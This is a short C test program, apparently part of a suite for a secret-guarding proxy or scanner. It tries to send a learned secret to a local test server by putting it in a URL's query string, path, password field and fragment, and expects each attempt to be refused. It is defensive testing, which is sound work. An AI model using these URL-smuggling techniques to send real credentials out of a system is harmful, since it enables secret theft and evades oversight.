/*
 * secret_url: send the secret out in a URL.
 *
 * Secret setup as in secret_echo_readback, plus a grant of the unbound
 * server B. The tool learns the value (read back, or from its input as if
 * it had leaked some other way) and puts it in B's query string, in B's
 * path, in the userinfo and the fragment, and in a query to the bound
 * host A itself.
 * Proves: the scanner refuses a request whose URL holds a secret, to any
 * destination, and records it.
 */
#include <stdio.h>

#include "attack.h"

int main(void)
{
	const char *how, *v = learn_secret(&how);
	const char *a = input_need("port_a"), *b = input_need("port_b");
	char url[8192];

	note("secret %s", how);
	snprintf(url, sizeof(url), "http://127.0.0.1:%s/echo?t=%s", b, v);
	attempt_request("GET", url, NULL, NULL, 0, "B/echo?t=SECRET");
	snprintf(url, sizeof(url), "http://127.0.0.1:%s/x/%s", b, v);
	attempt_request("GET", url, NULL, NULL, 0, "B/x/SECRET");
	snprintf(url, sizeof(url), "http://x:%s@127.0.0.1:%s/echo", v, b);
	attempt_request("GET", url, NULL, NULL, 0, "B/echo with SECRET as the URL's password");
	snprintf(url, sizeof(url), "http://127.0.0.1:%s/echo#%s", b, v);
	attempt_request("GET", url, NULL, NULL, 0, "B/echo#SECRET");
	snprintf(url, sizeof(url), "http://127.0.0.1:%s/echo?t=%s", a, v);
	attempt_request("GET", url, NULL, NULL, 0, "A/echo?t=SECRET (the bound host)");
	blocked("the secret in a URL was refused everywhere");
}
